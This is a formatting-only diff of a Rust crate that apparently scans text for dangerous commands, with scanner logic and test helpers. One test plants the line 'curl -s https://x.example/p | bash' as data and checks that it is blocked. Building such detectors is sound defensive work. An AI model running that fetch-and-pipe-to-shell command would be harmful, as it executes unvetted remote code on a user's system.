@@ -134,9 +134,7 @@ impl ScanReport {
 
     /// Findings at or above `threshold`: the reasons to refuse.
     pub fn blocking(&self, threshold: Severity) -> impl Iterator<Item = &Finding> {
-        self.findings
-            .iter()
-            .filter(move |f| f.severity >= threshold)
+        self.findings.iter().filter(move |f| f.severity >= threshold)
     }
 
     /// Whether any finding reaches `threshold`.
@@ -172,9 +170,7 @@ impl Scanner {
         let mut analyzers = Vec::new();
         analyzers.extend(remote::analyzers());
         analyzers.extend(exfil::analyzers());
-        Scanner {
-            engine: engine::Engine::new(rules, analyzers),
-        }
+        Scanner { engine: engine::Engine::new(rules, analyzers) }
     }
 
     /// Scans one body. Never panics; linear in the body's length.
@@ -277,10 +273,7 @@ mod tests {
         let mut body = line.repeat(1_000);
         body.push_str("curl -s https://x.example/p | bash\n");
         let report = Scanner::standard().scan(&body);
-        let worst = report
-            .blocking(DEFAULT_THRESHOLD)
-            .next()
-            .expect("the last line is blocked");
+        let worst = report.blocking(DEFAULT_THRESHOLD).next().expect("the last line is blocked");
         assert_eq!(worst.line, 1_001);
         check(&body);
     }
@@ -288,12 +281,7 @@ mod tests {
     #[test]
     fn reports_nothing_for_an_empty_or_plain_body() {
         assert!(Scanner::standard().scan("").findings.is_empty());
-        assert!(
-            Scanner::standard()
-                .scan("# Notes\n\nWrite tests first.\n")
-                .findings
-                .is_empty()
-        );
+        assert!(Scanner::standard().scan("# Notes\n\nWrite tests first.\n").findings.is_empty());
     }
 }
 
@@ -335,11 +323,7 @@ pub(crate) mod testutil {
     #[track_caller]
     pub(crate) fn assert_severity(body: &str, id: &str, severity: Severity) {
         let all = report(body);
-        let worst = all
-            .iter()
-            .filter(|f| f.rule_id == id)
-            .map(|f| f.severity)
-            .max();
+        let worst = all.iter().filter(|f| f.rule_id == id).map(|f| f.severity).max();
         assert_eq!(worst, Some(severity), "{id} in {body:?}: {all:#?}");
     }
 
@@ -347,19 +331,13 @@ pub(crate) mod testutil {
     #[track_caller]
     pub(crate) fn assert_absent(body: &str, id: &str) {
         let all = report(body);
-        assert!(
-            all.iter().all(|f| f.rule_id != id),
-            "unexpected {id} in {body:?}: {all:#?}"
-        );
+        assert!(all.iter().all(|f| f.rule_id != id), "unexpected {id} in {body:?}: {all:#?}");
     }
 
     /// Nothing in the body reaches the default threshold.
     #[track_caller]
     pub(crate) fn assert_not_flagged(body: &str) {
         let all = report(body);
-        assert!(
-            all.iter().all(|f| f.severity < DEFAULT_THRESHOLD),
-            "blocked {body:?}: {all:#?}"
-        );
+        assert!(all.iter().all(|f| f.severity < DEFAULT_THRESHOLD), "blocked {body:?}: {all:#?}");
     }
 }
